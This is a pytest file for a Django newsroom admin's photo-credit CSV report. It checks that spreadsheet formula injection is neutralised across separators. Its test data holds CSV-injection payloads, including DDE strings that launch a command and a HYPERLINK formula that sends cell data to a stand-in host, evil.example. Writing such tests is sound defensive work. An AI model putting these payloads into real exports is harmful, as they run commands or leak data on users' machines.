"""The agency credit report's CSV runs no formula in a spreadsheet, whichever separator the
spreadsheet splits it on: a formula hidden after a semicolon, tab, bar or line break in a
credit is as dangerous as one at the start of the cell."""

import csv
import io
from datetime import datetime

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.factories import make_article, make_photo

pytestmark = pytest.mark.django_db

REPORT_URL = reverse("admin:articles_photo_agency_credits")
FORMULA_STARTS = ("=", "+", "-", "@")

# Each payload, and how it reads back: a quote mark at the start of the cell and before each
# formula start that follows a separator.
NEUTRALISED = {
    "Reuters;=cmd|' /C calc'!A0": "'Reuters;'=cmd|' /C calc'!A0",
    'AP,=HYPERLINK("https://evil.example/?"&A1)': "'AP,'=HYPERLINK(\"https://evil.example/?\"&A1)",
    "AFP\t+SUM(1+1)*cmd|' /C calc'!A0": "'AFP\t'+SUM(1+1)*cmd|' /C calc'!A0",
    "Getty|@SUM(1+1)": "'Getty|'@SUM(1+1)",
    "Pool\n-2+3+cmd|' /C calc'!A0": "'Pool\n'-2+3+cmd|' /C calc'!A0",
    "EPA\r=1+1": "'EPA\r'=1+1",
    'Flash90; "=1+1': "'Flash90; \"'=1+1",
    "=1+1": "'=1+1",
    " @SUM(1)": "' @SUM(1)",
}
PAYLOADS = list(NEUTRALISED)


def at(day):
    return timezone.make_aware(datetime(2026, 11, day, 12, 0))


def report_csv(client) -> str:
    response = client.get(REPORT_URL, {"month": "2026-11", "format": "csv"})
    assert response.status_code == 200
    return response.content.decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_after_a_separator_inside_a_credit_starts_no_cell_whatever_the_separator(
    editor_client, payload
):
    photo = make_photo(agency=payload, photographer=payload, caption=payload)
    make_article(headline=payload, lead_photo=photo, published_at=at(4))

    text = report_csv(editor_client)

    for delimiter in (",", ";", "\t", "|"):
        honouring_quotes = [
            cell
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for cell in row
        ]
        ignoring_quotes = [piece for line in text.splitlines() for piece in line.split(delimiter)]
        for cell in honouring_quotes + ignoring_quotes:
            for line in cell.splitlines():
                assert not line.lstrip(' "').startswith(FORMULA_STARTS), (delimiter, cell)


@pytest.mark.parametrize(("payload", "neutralised"), NEUTRALISED.items())
def test_a_neutralised_credit_reads_back_with_a_quote_mark_before_each_formula(
    editor_client, payload, neutralised
):
    make_article(headline="Market day", lead_photo=make_photo(agency=payload), published_at=at(4))

    rows = list(csv.reader(io.StringIO(report_csv(editor_client), newline="")))

    assert rows[1][0] == neutralised
    assert rows[1][1] == "Market day"


def test_ordinary_credits_with_hyphens_and_separators_are_left_as_they_are(editor_client):
    photo = make_photo(agency="Reuters / Pool", photographer="Jean-Luc Martin, staff")
    make_article(headline="Tel Aviv - Jaffa; a walk", lead_photo=photo, published_at=at(4))

    rows = list(csv.reader(io.StringIO(report_csv(editor_client), newline="")))

    assert (rows[1][0], rows[1][1], rows[1][6]) == (
        "Reuters / Pool",
        "Tel Aviv - Jaffa; a walk",
        "Jean-Luc Martin, staff",
    )
